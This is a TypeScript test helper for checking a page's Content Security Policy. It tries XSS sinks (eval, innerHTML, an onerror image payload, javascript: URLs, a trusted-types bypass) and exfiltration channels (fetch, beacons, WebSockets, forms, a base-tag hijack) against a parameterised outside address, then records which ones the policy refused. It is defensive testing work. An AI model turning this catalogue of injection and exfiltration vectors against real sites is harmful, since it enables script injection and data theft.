/**
 * What a page that was taken over would try. Runs inside the page, in a task of its own: what a test tool evaluates
 * directly is not held to the page's policy. Refers to nothing outside itself.
 */
export async function tryHostileActs(elsewhere: string): Promise<Record<string, string>> {
  const outcome: Record<string, string> = {};
  /** Addresses that the page's policy kept from being asked. */
  const refused = new Set<string>();
  let onRefused = (): unknown => null;
  document.addEventListener('securitypolicyviolation', ({ blockedURI }) => {
    refused.add(blockedURI);
    onRefused();
  });
  const inOwnTask = (act: () => unknown): Promise<string> =>
    new Promise((resolve) => {
      setTimeout(async () => {
        try {
          const result = await act();
          resolve(result === undefined ? 'done' : String(result));
        } catch (error) {
          resolve((error as Error).name);
        }
      }, 0);
    });
  const attempt = async (name: string, act: () => unknown): Promise<void> => {
    outcome[name] = await inOwnTask(act);
  };
  const element = (name: string, properties: object): Element => {
    const made = Object.assign(document.createElement(name), properties);
    document.body.append(made);
    return made;
  };
  const untyped = (text: string): never => text as never;

  // Text that becomes code.
  // biome-ignore lint/security/noGlobalEval: the point of the test
  await attempt('eval', () => void window.eval('window.ranText = 1'));
  await attempt('new Function', () => void new Function('window.ranText = 2')());
  await attempt('setTimeout with text', () => void setTimeout(untyped('window.ranText = 3'), 0));
  await attempt('setInterval with text', () => void setInterval(untyped('window.ranText = 4'), 1));
  await attempt('inline script', () => {
    const script = document.createElement('script');
    script.append('window.ranText = 5');
    document.body.append(script);
  });
  await attempt('handler in an attribute', () => {
    document.body.setAttribute('onclick', 'window.ranText = 6');
  });
  await attempt('javascript: address', () =>
    (element('a', { href: 'javascript:window.ranText=7' }) as HTMLElement).click(),
  );
  // Text that becomes elements.
  const html = untyped('<img src=x onerror="window.ranText = 8">');
  await attempt('innerHTML', () => {
    document.createElement('div').innerHTML = html;
  });
  await attempt('outerHTML', () => {
    element('div', {}).outerHTML = html;
  });
  await attempt('insertAdjacentHTML', () => document.body.insertAdjacentHTML('beforeend', html));
  await attempt('document.write', () => document.write(html));
  await attempt('DOMParser', () => void new DOMParser().parseFromString(html, 'text/html'));
  await attempt('createContextualFragment', () => void new Range().createContextualFragment(html));
  await attempt('srcdoc', () => {
    document.createElement('iframe').srcdoc = html;
  });
  await attempt('script text', () => {
    document.createElement('script').text = html;
  });
  await attempt('another policy for trusted types', () => {
    const { trustedTypes } = window as unknown as {
      trustedTypes: { createPolicy: (name: string, rules: object) => void };
    };
    trustedTypes.createPolicy('mine', { createHTML: (text: string) => text });
  });
  // Code and data from elsewhere, and words to elsewhere.
  await attempt('script from elsewhere', () => {
    const script = document.createElement('script');
    script.src = untyped(`${elsewhere}/script`);
    document.body.append(script);
  });
  await attempt('import', () => import(/* @vite-ignore */ `${elsewhere}/import`));
  await attempt('worker from elsewhere', () => void new Worker(untyped(`${elsewhere}/worker`)));
  await attempt('worker from a blob', () => void new Worker(untyped(URL.createObjectURL(new Blob(['1'])))));
  await attempt('fetch', () => fetch(`${elsewhere}/fetch`, { method: 'POST', body: 'name' }));
  await attempt('fetch without reading', () => fetch(`${elsewhere}/no-cors`, { mode: 'no-cors' }));
  await attempt('XMLHttpRequest', () => {
    const request = new XMLHttpRequest();
    request.open('POST', `${elsewhere}/xhr`, false);
    request.send('name');
  });
  await attempt('WebSocket', () => void new WebSocket(`${elsewhere.replace('http', 'ws')}/socket`));
  await attempt('EventSource', () => void new EventSource(`${elsewhere}/events`));
  await attempt('sendBeacon', () => void navigator.sendBeacon(`${elsewhere}/beacon`, 'name'));
  await attempt('image', () => void element('img', { src: `${elsewhere}/image` }));
  await attempt('video', () => void element('video', { src: `${elsewhere}/video`, preload: 'auto' }));
  await attempt('style sheet', () => void element('link', { rel: 'stylesheet', href: `${elsewhere}/style` }));
  await attempt('prefetch', () => void element('link', { rel: 'prefetch', href: `${elsewhere}/prefetch` }));
  await attempt(
    'preload',
    () => void element('link', { rel: 'preload', as: 'image', href: `${elsewhere}/preload` }),
  );
  await attempt('frame', () => void element('iframe', { src: `${elsewhere}/frame` }));
  await attempt('object', () => void element('object', { data: `${elsewhere}/object` }));
  await attempt('embed', () => void element('embed', { src: `${elsewhere}/embed` }));
  await attempt('form', () => {
    const form = element('form', { action: `${elsewhere}/form`, method: 'post' }) as HTMLFormElement;
    form.submit();
  });
  let onImage = (): void => {};
  const image = new Promise<void>((resolve) => {
    onImage = resolve;
  });
  await attempt('base', () => {
    document.head.append(Object.assign(document.createElement('base'), { href: `${elsewhere}/` }));
    void element('img', { src: 'by-base', onerror: onImage, onload: onImage });
  });
  // What was begun has come to its end: every address was refused by name, and the image was asked of somebody.
  await image;
  const names = ['events', 'beacon', 'image', 'video', 'style', 'prefetch', 'preload', 'form'];
  const addresses = [
    ...names.map((name) => `${elsewhere}/${name}`),
    `${elsewhere.replace('http', 'ws')}/socket`,
    // Of a frame the browser tells the origin only.
    elsewhere,
  ];
  const isOver = (): boolean => addresses.every((address) => refused.has(address));
  await new Promise<void>((resolve) => {
    onRefused = () => isOver() && resolve();
    onRefused();
  });
  outcome['text that ran'] = String(Reflect.get(window, 'ranText') ?? 'none');
  outcome['script from elsewhere that ran'] = String(Reflect.get(window, 'ranFromElsewhere') ?? 'none');
  outcome['base in force'] = String(document.baseURI.startsWith(elsewhere));
  return outcome;
}
